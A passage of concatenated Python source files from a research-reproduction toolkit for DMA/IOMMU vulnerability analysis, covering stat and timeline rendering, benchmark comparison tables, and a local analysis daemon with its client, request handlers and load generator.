        _row("SyncInvalidations", inv.sync_invalidations),
        _row("DeferredInvalidations", inv.deferred_invalidations),
        _row("FlushQueueDrains", inv.flushes),
        _row("FlushQueueDepth", getattr(iommu.policy, "nr_pending", 0)),
        _row("InvalidationCycles", inv.cycles_spent),
    ]
    return "\n".join(lines)


def render_netdev(kernel) -> str:
    """Per-NIC counters in the spirit of ``/proc/net/dev``."""
    header = (f"{'Interface':<10}{'rx_pkts':>10}{'tx_pkts':>10}"
              f"{'tx_tmout':>10}{'ring_rst':>10}{'rx_occ':>8}"
              f"{'tx_infl':>8}")
    lines = ["netdev:", header]
    for name in sorted(kernel.nics):
        nic = kernel.nics[name]
        stats = nic.stats
        rx_posted = sum(len(ring.posted_descriptors())
                        for ring in nic.rx_rings.values())
        tx_inflight = sum(1 for ring in nic.tx_rings.values()
                          for desc in ring.descriptors
                          if desc.posted and not desc.completed)
        lines.append(f"{name:<10}{stats.rx_packets:>10}"
                     f"{stats.tx_packets:>10}{stats.tx_timeouts:>10}"
                     f"{stats.rx_ring_resets:>10}{rx_posted:>8}"
                     f"{tx_inflight:>8}")
    stack = kernel.stack.stats
    lines += [
        _row("StackRxDelivered", stack.rx_delivered),
        _row("StackEchoed", stack.echoed),
        _row("StackForwarded", stack.forwarded),
        _row("StackDropped", stack.dropped),
        _row("StackSkbsFreed", stack.skbs_freed),
        _row("StackZerocopyCbs", stack.zerocopy_callbacks),
        _row("StackOopses", stack.oopses),
    ]
    return "\n".join(lines)


def render_dkasan_stats(dkasan) -> str:
    """D-KASAN findings by class, zero-filled over every known kind."""
    from repro.core.dkasan.sanitizer import EVENT_KINDS
    counts = dkasan.summary_counts()
    lines = ["dkasan_stats:"]
    lines += [_row(kind, counts.get(kind, 0)) for kind in EVENT_KINDS]
    lines.append(_row("total", len(dkasan.events)))
    return "\n".join(lines)


def render_cache_stats(usages, totals) -> str:
    """Perfcache disk footprint + aggregated effectiveness counters.

    *usages* is the per-namespace disk footprint
    (:meth:`~repro.perfcache.PerfCache.disk_usage`); *totals* is the
    cross-process sum of persisted :class:`~repro.perfcache.CacheStats`
    (:meth:`~repro.perfcache.PerfCache.aggregate_persisted_stats`).
    """
    lines = ["cache_stats:"]
    if usages:
        lines.append(f"{'Namespace':<12}{'entries':>10}{'bytes':>14}")
        for usage in usages:
            lines.append(f"{usage.namespace:<12}{usage.entries:>10}"
                         f"{usage.bytes:>14}")
    else:
        lines.append("  (no disk tier)")
    lines += [
        _row("MemoryHits", totals.memory_hits),
        _row("DiskHits", totals.disk_hits),
        _row("Misses", totals.misses),
        _row("Stores", totals.stores),
        _row("Bypasses", totals.bypasses),
        _row("CorruptRecovered", totals.corrupt),
        _row("WriteErrors", totals.write_errors),
    ]
    lookups = totals.lookups
    ratio = totals.hits / lookups if lookups else 0.0
    lines.append(_row("HitRatio", f"{ratio:.3f}"))
    return "\n".join(lines)


def render_serve_stats(snapshot: dict) -> str:
    """Daemon lifetime counters as a stat block.

    *snapshot* is :meth:`~repro.serve.ServeStats.snapshot`: request
    counts by type/status, admission-control outcomes, corpus-LRU
    effectiveness, and per-type latency histogram summaries.
    """
    lines = ["serve_stats:"]
    requests = snapshot.get("requests", {})
    total = sum(requests.values())
    lines.append(_row("Requests", total))
    for key in sorted(requests):
        lines.append(_row(f"  {key}", requests[key]))
    lines += [
        _row("Connections", snapshot.get("connections", 0)),
        _row("ProtocolErrors", snapshot.get("protocol_errors", 0)),
        _row("Rejected", snapshot.get("rejected", 0)),
        _row("Aborted", snapshot.get("aborted", 0)),
        _row("AcceptDrops", snapshot.get("accept_drops", 0)),
        _row("Batched", snapshot.get("batched", 0)),
        _row("CorpusHits", snapshot.get("corpus_hits", 0)),
        _row("CorpusMisses", snapshot.get("corpus_misses", 0)),
        _row("CorpusEvictions", snapshot.get("corpus_evictions", 0)),
    ]
    hits = snapshot.get("corpus_hits", 0)
    lookups = hits + snapshot.get("corpus_misses", 0)
    ratio = hits / lookups if lookups else 0.0
    lines.append(_row("CorpusHitRatio", f"{ratio:.3f}"))
    for rtype, histogram in sorted(
            snapshot.get("latency_ms", {}).items()):
        count = histogram.get("count", 0)
        if not count:
            continue
        mean = histogram.get("total", 0.0) / count
        lines.append(_row(f"Latency_{rtype}",
                          f"{mean:.1f}/{histogram.get('max', 0):.1f}",
                          "ms avg/max"))
    return "\n".join(lines)


def render_coverage_stats(cover) -> str:
    """Campaign coverage map as a ``/proc``-style stat block.

    *cover* is a :class:`repro.coverage.CoverageMap`: global feature
    totals, per-lane seed counts, and per-subsystem feature density.
    """
    lines = ["coverage_stats:"]
    nr_seeds = cover.nr_seeds
    lines.append(_row("Features", cover.nr_features))
    lines.append(_row("Seeds", nr_seeds))
    per_seed = cover.nr_features / nr_seeds if nr_seeds else 0.0
    lines.append(_row("FeaturesPerSeed", f"{per_seed:.2f}"))
    lines.append(_row("Lanes", len(cover.lanes)))
    for lane in cover.lanes:
        lines.append(_row(f"  lane {lane}", len(cover.seeds(lane)),
                          "seeds"))
    groups = cover.group_stats()
    for group in sorted(groups):
        stat = groups[group]
        lines.append(_row(f"Group_{group}",
                          f"{stat['nr_features']}/{stat['count']}",
                          "features/hits"))
    return "\n".join(lines)
