"""Paper-vs-measured table rendering for the benchmark harness.

Every experiment prints rows of "what the paper reports" next to "what
this reproduction measures", so EXPERIMENTS.md can quote the harness
output directly.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class PaperComparison:
    """One experiment's paper-vs-measured rows."""

    title: str
    rows: list[tuple[str, str, str]] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)

    def add(self, metric: str, paper: object, measured: object) -> None:
        self.rows.append((metric, str(paper), str(measured)))

    def note(self, text: str) -> None:
        self.notes.append(text)

    def render(self) -> str:
        width = max([len(m) for m, _p, _o in self.rows] + [6])
        paper_width = max([len(p) for _m, p, _o in self.rows] + [5])
        lines = [f"== {self.title} ==",
                 f"{'metric':{width}s}  {'paper':>{paper_width}s}"
                 f"  measured"]
        for metric, paper, measured in self.rows:
            lines.append(f"{metric:{width}s}  {paper:>{paper_width}s}"
                         f"  {measured}")
        for note in self.notes:
            lines.append(f"   note: {note}")
        return "\n".join(lines)


def precision_recall_row(label: str, tp: int, fp: int,
                         fn: int) -> list[str]:
    """One formatted row for a detector-quality table.

    Empty denominators render as ``--`` rather than a fake 1.000, so
    campaign summaries never claim perfection over zero samples.
    """
    precision = f"{tp / (tp + fp):.3f}" if tp + fp else "--"
    recall = f"{tp / (tp + fn):.3f}" if tp + fn else "--"
    return [label, str(tp), str(fp), str(fn), precision, recall]


def format_precision_recall(title: str,
                            rows: list[tuple[str, int, int, int]]) -> str:
    """Render (label, tp, fp, fn) rows as a Table-2-style text block."""
    table = render_table(
        ["label", "tp", "fp", "fn", "precision", "recall"],
        [precision_recall_row(*row) for row in rows])
    return f"== {title} ==\n{table}"


def render_table(headers: list[str], rows: list[list[str]]) -> str:
    """Fixed-width text table."""
    widths = [len(h) for h in headers]
    for row in rows:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(str(cell)))
    def fmt(row):
        return "  ".join(f"{str(cell):{widths[i]}s}"
                         for i, cell in enumerate(row))
    lines = [fmt(headers), fmt(["-" * w for w in widths])]
    lines.extend(fmt(row) for row in rows)
    return "\n".join(lines)
