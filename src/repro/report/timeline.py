"""Plain-text rendering of flight-recorder traces.

Turns a sequence of :class:`repro.trace.TraceEvent` into an
ftrace-style timeline -- one line per event, span begin/end marked and
indented -- plus a counters/histograms summary block. Both renderers
are pure functions over already-captured data, so they work equally on
a live recorder's ``events`` and on a stream reloaded with
:func:`repro.trace.load_jsonl`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Iterable, Sequence

if TYPE_CHECKING:
    from repro.trace.recorder import TraceEvent

#: Argument keys rendered as hex (addresses and frame numbers).
_HEX_KEYS = frozenset({
    "iova", "kva", "pfn", "paddr", "ubuf_kva", "linear_iova",
    "chunk_pfn", "iova_pfn",
})

_PHASE_MARK = {"B": "+", "E": "-"}


def _render_value(key: str, value) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int) and key in _HEX_KEYS:
        return f"{value:#x}"
    if isinstance(value, float):
        return f"{value:.3f}"
    return str(value)


def _render_args(args: dict, *, max_len: int = 56) -> str:
    if not args:
        return ""
    text = " ".join(f"{k}={_render_value(k, v)}"
                    for k, v in args.items())
    if len(text) > max_len:
        text = text[:max_len - 3] + "..."
    return text


def render_timeline(events: Iterable["TraceEvent"], *,
                    last: int | None = None) -> str:
    """Render *events* as an indented, span-aware text timeline.

    ``last`` keeps only the final *n* events (the flight-recorder
    view). Span indentation is tracked across the rendered slice; a
    slice that starts inside a span simply renders at depth 0.
    """
    rows = list(events)
    if last is not None:
        rows = rows[-last:]
    lines = [f"{'ts(ms)':>12}  {'cat':<7} event"]
    depth = 0
    for event in rows:
        if event.phase == "E":
            depth = max(0, depth - 1)
        mark = _PHASE_MARK.get(event.phase, " ")
        indent = "  " * depth
        args = _render_args(event.args)
        line = (f"{event.ts_us / 1000.0:>12.3f}  {event.category:<7} "
                f"{mark}{indent}{event.name}")
        if args:
            line += f"  {args}"
        lines.append(line)
        if event.phase == "B":
            depth += 1
    return "\n".join(lines)


def render_trace_summary(summary: dict) -> str:
    """Render a :func:`repro.trace.summary_record` dict as text."""
    lines = [
        f"events: {summary['nr_events']} retained / "
        f"{summary['nr_emitted']} emitted "
        f"({summary['dropped']} dropped)",
    ]
    counters = summary.get("counters") or {}
    if counters:
        lines.append("counters:")
        width = max(len(name) for name in counters)
        for name in sorted(counters):
            lines.append(f"  {name:<{width}}  {counters[name]}")
    histograms = summary.get("histograms") or {}
    if histograms:
        lines.append("histograms:")
        width = max(len(name) for name in histograms)
        for name in sorted(histograms):
            h = histograms[name]
            mean = h["total"] / h["count"] if h["count"] else 0.0
            lines.append(
                f"  {name:<{width}}  n={h['count']} "
                f"min={h['min']:.1f} mean={mean:.1f} max={h['max']:.1f}")
    return "\n".join(lines)


def render_invalidation_report(windows) -> str:
    """One-line report of trace-derived invalidation windows.

    *windows* is a :class:`repro.trace.InvalidationWindows`.
    """
    if not windows.windows_us and not windows.nr_sync \
            and not windows.nr_unpaired:
        return "invalidation windows: none observed"
    deferred = len(windows.windows_us) - windows.nr_sync
    parts = [f"invalidation windows: {deferred} deferred"]
    if deferred:
        parts.append(f"max {windows.max_ms:.3f} ms, "
                     f"mean {windows.mean_ms:.3f} ms")
    if windows.nr_sync:
        parts.append(f"{windows.nr_sync} synchronous (zero-width)")
    if windows.nr_unpaired:
        parts.append(f"{windows.nr_unpaired} still open at end of trace")
    return "; ".join(parts)


def column_names(events: Sequence["TraceEvent"]) -> list[str]:
    """Distinct ``category/name`` identifiers, in first-seen order."""
    seen: dict[str, None] = {}
    for event in events:
        seen.setdefault(f"{event.category}/{event.name}")
    return list(seen)
