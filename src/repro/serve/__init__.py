"""repro.serve -- SPADE-as-a-service: the persistent analysis daemon.

One-shot CLI runs pay the full setup cost on every invocation: corpus
generation, parse and index, layout interning, cache priming.  This
package keeps a process alive instead -- ``repro-dma serve`` -- and
answers analyze/replay/chaos requests over a newline-delimited-JSON
socket protocol, with three promises:

* **byte-identity** -- a served request answers exactly what the
  equivalent one-shot CLI run prints/computes (the differential
  invariant; the warm caches may make it *faster*, never *different*);
* **bounded admission** -- a full queue rejects explicitly (the
  429-style ``rejected`` status) and the corpus LRU evicts under a
  byte budget, so overload degrades honestly instead of growing
  without bound;
* **per-request isolation** -- metrics collector slots and the trace
  clock binding reset between requests, so back-to-back requests
  export independently instead of last-boot-wins.

``repro-dma loadgen`` is the measuring stick: a deterministic mixed
workload at target RPS whose latency histograms and warm-vs-cold
speedup feed the ``BENCH_perf.json`` / ``BENCH_history.jsonl``
pipeline.

Importing this package has no side effects: no socket, no threads, no
registry until a server is constructed and started.
"""

from __future__ import annotations

from repro.errors import ServeError
from repro.serve.client import (DEFAULT_RETRIES, ServeClient,
                                wait_until_ready)
from repro.serve.loadgen import (DEFAULT_MIX, LoadgenConfig,
                                 build_schedule, format_loadgen_report,
                                 measure_cold_oneshot, merge_into_bench,
                                 parse_mix, run_loadgen,
                                 serve_history_record, serve_signature)
from repro.serve.protocol import (CHAOS_WORKLOADS, MAX_LINE_BYTES,
                                  PROTOCOL_SCHEMA, REQUEST_TYPES,
                                  RETRYABLE_STATUSES, batch_key,
                                  canonical_json, encode_line,
                                  error_response, normalize_request,
                                  parse_request, payload_digest,
                                  response_for)
from repro.serve.server import (DEFAULT_MEMORY_BUDGET_MIB,
                                DEFAULT_QUEUE_BOUND, DEFAULT_WORKERS,
                                AnalysisServer, CorpusLru, ServeConfig,
                                ServeStats, serve_collector)

__all__ = [
    "AnalysisServer", "CHAOS_WORKLOADS", "CorpusLru", "DEFAULT_MIX",
    "DEFAULT_MEMORY_BUDGET_MIB", "DEFAULT_QUEUE_BOUND",
    "DEFAULT_RETRIES", "DEFAULT_WORKERS", "LoadgenConfig",
    "MAX_LINE_BYTES", "PROTOCOL_SCHEMA", "REQUEST_TYPES",
    "RETRYABLE_STATUSES", "ServeClient", "ServeConfig", "ServeError",
    "ServeStats", "batch_key", "build_schedule", "canonical_json",
    "encode_line", "error_response", "format_loadgen_report",
    "measure_cold_oneshot", "merge_into_bench", "normalize_request",
    "parse_mix", "parse_request", "payload_digest", "response_for",
    "run_loadgen", "serve_collector", "serve_history_record",
    "serve_signature", "wait_until_ready",
]
