"""A small blocking client for the analysis daemon.

Speaks the NDJSON protocol request-by-request (no pipelining: one
request, one response) and absorbs the daemon's chaos weather: a
dropped connection (``serve.accept_drop``), an aborted request
(``serve.request_abort``), or an admission rejection (queue full) is
retried up to the budget with a deterministic linear backoff.  The
retry loop is what the serve fault sites exist to exercise -- a
well-behaved client plus a recovering daemon must yield byte-identical
payloads to a fault-free run.
"""

from __future__ import annotations

import json
import socket
import time

from repro.errors import ServeError
from repro.serve.protocol import (RETRYABLE_STATUSES, encode_line)

DEFAULT_TIMEOUT_S = 120.0
DEFAULT_RETRIES = 5
DEFAULT_BACKOFF_S = 0.05


class ServeClient:
    """One connection to the daemon (reconnects transparently)."""

    def __init__(self, socket_path: str | None = None, *,
                 host: str | None = None, port: int | None = None,
                 timeout_s: float = DEFAULT_TIMEOUT_S,
                 retries: int = DEFAULT_RETRIES,
                 backoff_s: float = DEFAULT_BACKOFF_S) -> None:
        if not socket_path and port is None:
            raise ServeError("client needs a socket path or host/port")
        self._socket_path = socket_path
        self._host = host or "127.0.0.1"
        self._port = port
        self._timeout_s = timeout_s
        self._retries = retries
        self._backoff_s = backoff_s
        self._sock: socket.socket | None = None
        self._reader = None

    # -- connection ------------------------------------------------------

    def _connect(self) -> None:
        if self._socket_path:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(self._timeout_s)
            sock.connect(self._socket_path)
        else:
            sock = socket.create_connection(
                (self._host, self._port), timeout=self._timeout_s)
        self._sock = sock
        self._reader = sock.makefile("rb")

    def close(self) -> None:
        if self._sock is not None:
            try:
                self._sock.close()
            except OSError:
                pass
        self._sock = None
        self._reader = None

    def __enter__(self) -> "ServeClient":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- requests --------------------------------------------------------

    def request(self, doc: dict) -> dict:
        """Send *doc*, return the parsed response.

        Retries transparently on connection loss and on retryable
        statuses (``rejected``/``aborted``); raises
        :class:`~repro.errors.ServeError` when the budget runs out or
        the daemon answers ``status: error``.
        """
        last = "no attempt made"
        for attempt in range(self._retries + 1):
            if attempt:
                time.sleep(self._backoff_s * attempt)
            try:
                response = self._roundtrip(doc)
            except (OSError, ValueError) as exc:
                self.close()
                last = f"connection failed: {exc}"
                continue
            status = response.get("status")
            if status in RETRYABLE_STATUSES:
                last = f"{status}: {response.get('error', '')}"
                continue
            if status != "ok":
                raise ServeError(f"server error: "
                                 f"{response.get('error', response)}")
            return response
        raise ServeError(f"request failed after "
                         f"{self._retries + 1} attempt(s): {last}")

    def request_raw(self, doc: dict) -> tuple[bytes, dict]:
        """One attempt, no retries: the raw response line + parsed doc
        (byte-identity checks compare the line itself)."""
        line = self._roundtrip_line(doc)
        return line, json.loads(line)

    def _roundtrip(self, doc: dict) -> dict:
        return json.loads(self._roundtrip_line(doc))

    def _roundtrip_line(self, doc: dict) -> bytes:
        if self._sock is None:
            self._connect()
        self._sock.sendall(encode_line(doc))
        line = self._reader.readline()
        if not line:
            raise ConnectionError("server closed the connection")
        return line.rstrip(b"\n")

    def ping(self) -> dict:
        return self.request({"type": "ping"})


def wait_until_ready(client_args: dict, *, timeout_s: float = 30.0,
                     interval_s: float = 0.05) -> dict:
    """Poll ping until the daemon answers (startup synchronization)."""
    deadline = time.monotonic() + timeout_s
    while True:
        try:
            with ServeClient(**client_args) as client:
                return client.ping()
        except (ServeError, OSError):
            if time.monotonic() >= deadline:
                raise
            time.sleep(interval_s)
