"""Request handlers: each mirrors one one-shot CLI run, byte for byte.

The differential invariant of the serving layer is that a request
answered by a warm, long-lived daemon is indistinguishable from the
equivalent cold CLI invocation:

* ``analyze``  == ``repro-dma audit --scale S --corpus-seed N``
  (same Table 2 text, same canonical findings JSON),
* ``replay``   == ``repro-dma campaign --seeds 1 --seed-base N
  --trace-events 0`` (same :func:`findings_digest`),
* ``chaos``    == one phase-A workload line of ``repro-dma chaos``
  (same formatted outcome line, same per-site fire counts).

Handlers therefore reuse the exact code paths the CLI uses -- the
server adds caching *around* them (corpus LRU, perfcache), never a
second implementation *of* them.  Replay always runs with
``trace_events=0``: the flight recorder is a process-global singleton
and a concurrent second ``trace.install`` raises, so a daemon serving
parallel requests must not trace from workers.
"""

from __future__ import annotations

from repro import faults
from repro.serve.protocol import payload_digest


def handle_ping(request: dict, *, allow_sleep: bool = False) -> dict:
    from repro import __version__
    if allow_sleep and request.get("sleep_ms"):
        import time
        time.sleep(request["sleep_ms"] / 1000.0)
    return {"version": __version__}


def analyze_corpus(tree, manifest) -> dict:
    """The shared computation behind coalesced analyze requests."""
    from repro.core.spade import Spade, Table2Stats
    from repro.core.spade.report import format_table2
    from repro.perfcache.codec import encode_findings

    spade = Spade(tree)
    findings = spade.analyze()
    encoded = encode_findings(findings)
    body = {
        "nr_files": len(tree.files),
        "nr_findings": len(encoded),
        "findings_digest": payload_digest(encoded),
        "table2": format_table2(Table2Stats.from_findings(findings)),
        "findings": encoded,
    }
    if manifest is not None:
        validation = spade.validate(findings, manifest)
        body["precision"] = round(validation.precision, 3)
        body["recall"] = round(validation.recall, 3)
    return body


def handle_analyze(request: dict, shared: dict) -> dict:
    body = dict(shared)
    body["corpus_seed"] = request["corpus_seed"]
    body["scale"] = request["scale"]
    if not request["include_findings"]:
        del body["findings"]
    return body


def handle_replay(request: dict) -> dict:
    from repro.campaign.results import _VOLATILE_KEYS, findings_digest
    from repro.campaign.runner import run_seed

    record = run_seed(request["seed"], base_seed=request["base_seed"],
                      mutations_per_seed=request["mutations"],
                      scale=request["scale"],
                      phys_mb=request["phys_mb"], trace_events=0,
                      backend=request.get("backend"))
    digest = findings_digest({request["seed"]: record})
    response = {
        "seed": request["seed"],
        "findings_digest": digest,
        "record": {key: value for key, value in sorted(record.items())
                   if key not in _VOLATILE_KEYS},
    }
    coverage = record.get("coverage")
    if coverage:
        # the deterministic per-seed coverage digest, surfaced at the
        # top level so replay clients can track novelty without
        # digging into the record body
        response["coverage_digest"] = coverage["digest"]
    return response


def handle_chaos(request: dict) -> dict:
    """One phase-A workload under the plan's kernel-layer rules.

    The caller (the server) already holds the exclusive request lock:
    this handler installs a process-global fault plan via
    ``faults.session`` inside ``_run_workload`` and must never run
    concurrently with any other request.
    """
    from repro.faults.chaos import WorkloadOutcome, _run_workload
    from repro.faults.spec import FaultSpec, standard_spec

    if request["plan"] is not None:
        spec = FaultSpec.from_json(request["plan"])
    else:
        spec = standard_spec(request["plan_seed"])
    kernel_spec, _tooling = spec.split()
    plan = kernel_spec.compile(stream=request["stream"]) \
        if kernel_spec.rules else None
    name = request["workload"]
    try:
        outcome = _run_workload(name, plan, seed=request["seed"],
                                rounds=request["rounds"],
                                commands=request["commands"],
                                profile_boots=0)
    except faults.InjectedFault as exc:
        outcome = WorkloadOutcome(
            name, False, detail=f"unrecovered injected fault: {exc}",
            unrecovered_site=exc.site)
    except Exception as exc:  # mirror run_chaos: crash -> report entry
        outcome = WorkloadOutcome(
            name, False, detail=f"workload crashed under faults: {exc!r}")
    status = "ok" if outcome.ok else "UNRECOVERED"
    line = (f"workload {outcome.name}: {status} "
            f"({outcome.recovered} fault(s) recovered; "
            f"{outcome.detail})")
    return {
        "workload": name,
        "ok": outcome.ok,
        "recovered": outcome.recovered,
        "detail": outcome.detail,
        "unrecovered_site": outcome.unrecovered_site,
        "fired": plan.fired_counts() if plan is not None else {},
        "line": line,
    }
