"""``repro-dma loadgen``: drive the daemon with a mixed request load.

Replays a deterministic schedule -- a weighted mix of analyze, replay,
and chaos requests -- at a target aggregate RPS over N concurrent
connections, and measures what the serving layer promises:

* **latency** per request type (pow-2 histogram + percentiles),
* **throughput** (achieved RPS vs target),
* **warm-vs-cold speedup**: the p50 of warm served ``analyze``
  requests against one in-process *uncached* one-shot analysis of the
  same corpus (corpus generation included -- that is what a cold CLI
  run pays).

Results merge into the repo's perf pipeline: a ``serve`` section in
``BENCH_perf.json`` and an appended ``BENCH_history.jsonl`` record
with its own config signature, so the serving numbers get the same
trajectory treatment as the SPADE/campaign benchmarks.
"""

from __future__ import annotations

import json
import os
import threading
import time
from dataclasses import dataclass, field

from repro.errors import ServeError
from repro.metrics.registry import Histogram
from repro.perfcache.history import HISTORY_SCHEMA
from repro.serve.client import ServeClient

LOADGEN_SCHEMA = 1

DEFAULT_MIX = {"analyze": 6, "replay": 3, "chaos": 1}


@dataclass
class LoadgenConfig:
    nr_requests: int = 50
    connections: int = 4
    rps: float = 20.0
    mix: dict = field(default_factory=lambda: dict(DEFAULT_MIX))
    seed: int = 0
    retries: int = 5
    #: analyze knobs
    corpus_seed: int = 2021
    scale: float = 0.25
    #: replay knobs (deliberately smaller: replays boot kernels)
    replay_scale: float = 0.1
    replay_seeds: int = 4
    replay_mutations: int = 3
    #: chaos knobs
    chaos_rounds: int = 6
    chaos_commands: int = 8
    chaos_plan_seed: int = 0
    #: measure the uncached one-shot baseline for the speedup ratio
    cold_baseline: bool = True


def parse_mix(text: str) -> dict:
    """``analyze=6,replay=3,chaos=1`` -> weight dict."""
    mix = {}
    for part in text.split(","):
        part = part.strip()
        if not part:
            continue
        name, _, weight = part.partition("=")
        if name not in ("analyze", "replay", "chaos", "ping"):
            raise ServeError(f"unknown request type in mix: {name!r}")
        try:
            mix[name] = int(weight) if weight else 1
        except ValueError:
            raise ServeError(f"bad mix weight: {part!r}")
        if mix[name] < 0:
            raise ServeError(f"mix weight must be >= 0: {part!r}")
    if not any(mix.values()):
        raise ServeError(f"mix has no positive weight: {text!r}")
    return mix


def build_schedule(config: LoadgenConfig) -> list[dict]:
    """The request list, a pure function of the config.

    Types interleave by weighted round-robin (no RNG: two loadgen runs
    with one config send byte-identical request streams, which keeps
    load results comparable across runs and machines).
    """
    weights = {name: weight for name, weight in config.mix.items()
               if weight > 0}
    total = sum(weights.values())
    schedule = []
    credits = {name: 0.0 for name in weights}
    replay_next = 0
    for index in range(config.nr_requests):
        for name in credits:
            credits[name] += weights[name] / total
        chosen = max(sorted(credits), key=lambda name: credits[name])
        credits[chosen] -= 1.0
        if chosen == "analyze":
            request = {"type": "analyze",
                       "corpus_seed": config.corpus_seed,
                       "scale": config.scale,
                       "include_findings": False}
        elif chosen == "replay":
            request = {"type": "replay",
                       "seed": 1 + replay_next % config.replay_seeds,
                       "scale": config.replay_scale,
                       "mutations": config.replay_mutations}
            replay_next += 1
        elif chosen == "chaos":
            request = {"type": "chaos", "workload": "storage",
                       "plan_seed": config.chaos_plan_seed,
                       "stream": index,
                       "rounds": config.chaos_rounds,
                       "commands": config.chaos_commands}
        else:
            request = {"type": "ping"}
        request["id"] = index
        schedule.append(request)
    return schedule


def measure_cold_oneshot(config: LoadgenConfig) -> float:
    """Wall-clock of one fully cold, uncached analyze in this process.

    Matches what ``repro-dma audit`` pays on a cold machine: corpus
    generation plus the whole parse/index/classify pipeline, with
    every cache disabled so no earlier warm run can flatter the
    baseline.
    """
    from repro.core.spade.analyzer import Spade
    from repro.corpus import CorpusGenerator
    from repro.corpus.linux50 import scaled_composition
    from repro.perfcache.store import PerfCache

    start = time.perf_counter()
    tree, _manifest = CorpusGenerator(
        seed=config.corpus_seed,
        composition=scaled_composition(config.scale)).generate()
    Spade(tree, cache=PerfCache(None, enabled=False)).analyze()
    return time.perf_counter() - start


def _percentile(ordered: list[float], fraction: float) -> float:
    index = min(len(ordered) - 1,
                max(0, int(round(fraction * (len(ordered) - 1)))))
    return ordered[index]


@dataclass
class _Result:
    rtype: str
    latency_s: float
    ok: bool
    error: str = ""


def run_loadgen(config: LoadgenConfig, *,
                socket_path: str | None = None,
                host: str | None = None,
                port: int | None = None) -> dict:
    """Run the schedule against a live daemon; returns the report."""
    schedule = build_schedule(config)
    results: list[_Result | None] = [None] * len(schedule)
    started = time.perf_counter()

    def drive(connection_index: int) -> None:
        client = ServeClient(socket_path, host=host, port=port,
                             retries=config.retries)
        try:
            for index in range(connection_index, len(schedule),
                               config.connections):
                request = schedule[index]
                if config.rps > 0:
                    not_before = started + index / config.rps
                    delay = not_before - time.perf_counter()
                    if delay > 0:
                        time.sleep(delay)
                begin = time.perf_counter()
                try:
                    client.request(request)
                    ok, error = True, ""
                except ServeError as exc:
                    ok, error = False, str(exc)
                results[index] = _Result(request["type"],
                                         time.perf_counter() - begin,
                                         ok, error)
        finally:
            client.close()

    threads = [threading.Thread(target=drive, args=(index,),
                                name=f"loadgen-{index}", daemon=True)
               for index in range(min(config.connections,
                                      len(schedule)))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    elapsed_s = time.perf_counter() - started

    completed = [result for result in results if result is not None]
    failed = [result for result in completed if not result.ok]
    by_type: dict[str, list[float]] = {}
    histograms: dict[str, Histogram] = {}
    for result in completed:
        if result.ok:
            by_type.setdefault(result.rtype, []).append(
                result.latency_s)
            histogram = histograms.setdefault(result.rtype,
                                              Histogram())
            histogram.observe(result.latency_s * 1000.0)

    latency = {}
    for rtype, values in sorted(by_type.items()):
        ordered = sorted(values)
        latency[rtype] = {
            "count": len(ordered),
            "min_s": round(ordered[0], 6),
            "p50_s": round(_percentile(ordered, 0.50), 6),
            "p95_s": round(_percentile(ordered, 0.95), 6),
            "p99_s": round(_percentile(ordered, 0.99), 6),
            "max_s": round(ordered[-1], 6),
            "mean_s": round(sum(ordered) / len(ordered), 6),
            "histogram_ms": histograms[rtype].to_json(),
        }

    report = {
        "schema": LOADGEN_SCHEMA,
        "config": {
            "nr_requests": config.nr_requests,
            "connections": config.connections,
            "target_rps": config.rps,
            "mix": dict(sorted(config.mix.items())),
            "scale": config.scale,
            "corpus_seed": config.corpus_seed,
            "replay_scale": config.replay_scale,
            "seed": config.seed,
        },
        "elapsed_s": round(elapsed_s, 4),
        "achieved_rps": round(len(completed) / elapsed_s, 4)
        if elapsed_s else 0.0,
        "nr_sent": len(completed),
        "nr_failed": len(failed),
        "failures": [{"type": result.rtype, "error": result.error}
                     for result in failed[:8]],
        "latency": latency,
    }
    if config.cold_baseline and "analyze" in latency:
        cold_s = measure_cold_oneshot(config)
        warm_s = latency["analyze"]["p50_s"]
        report["oneshot_cold_s"] = round(cold_s, 6)
        report["warm_analyze_p50_s"] = warm_s
        report["speedup_warm_vs_cold"] = round(cold_s / warm_s, 2) \
            if warm_s else None
    report["ok"] = not failed
    return report


def format_loadgen_report(report: dict) -> str:
    lines = [f"loadgen: {report['nr_sent']} request(s) over "
             f"{report['config']['connections']} connection(s) in "
             f"{report['elapsed_s']}s "
             f"({report['achieved_rps']} req/s achieved, "
             f"{report['config']['target_rps']} targeted)"]
    for rtype, stats in report["latency"].items():
        lines.append(f"  {rtype:8s} n={stats['count']:<4d} "
                     f"p50 {stats['p50_s'] * 1000:.1f}ms  "
                     f"p95 {stats['p95_s'] * 1000:.1f}ms  "
                     f"max {stats['max_s'] * 1000:.1f}ms")
    if "speedup_warm_vs_cold" in report:
        lines.append(f"  warm analyze p50 "
                     f"{report['warm_analyze_p50_s'] * 1000:.1f}ms vs "
                     f"cold one-shot "
                     f"{report['oneshot_cold_s'] * 1000:.1f}ms: "
                     f"{report['speedup_warm_vs_cold']}x speedup")
    if report["nr_failed"]:
        lines.append(f"  FAILED: {report['nr_failed']} request(s), "
                     f"first: {report['failures'][0]['error']}")
    lines.append(f"loadgen verdict: "
                 f"{'PASS' if report['ok'] else 'FAIL'}")
    return "\n".join(lines)


# -- the BENCH pipeline ----------------------------------------------------

def serve_signature(report: dict) -> str:
    """Config signature for history comparability (serve-prefixed so
    serve records never gate against SPADE/campaign bench records)."""
    config = report.get("config", {})
    mix = ",".join(f"{name}:{weight}" for name, weight
                   in sorted(config.get("mix", {}).items()))
    return (f"serve:requests={config.get('nr_requests')}"
            f",connections={config.get('connections')}"
            f",rps={config.get('target_rps')}"
            f",scale={config.get('scale')}"
            f",mix={mix}")


def serve_history_record(report: dict) -> dict:
    from repro import __version__
    metrics = {
        "serve_achieved_rps": report.get("achieved_rps"),
        "serve_oneshot_cold_s": report.get("oneshot_cold_s"),
        "serve_warm_analyze_p50_s": report.get("warm_analyze_p50_s"),
        "serve_speedup_warm_vs_cold":
            report.get("speedup_warm_vs_cold"),
    }
    for rtype, stats in report.get("latency", {}).items():
        metrics[f"serve_{rtype}_p50_s"] = stats.get("p50_s")
    return {
        "schema": HISTORY_SCHEMA,
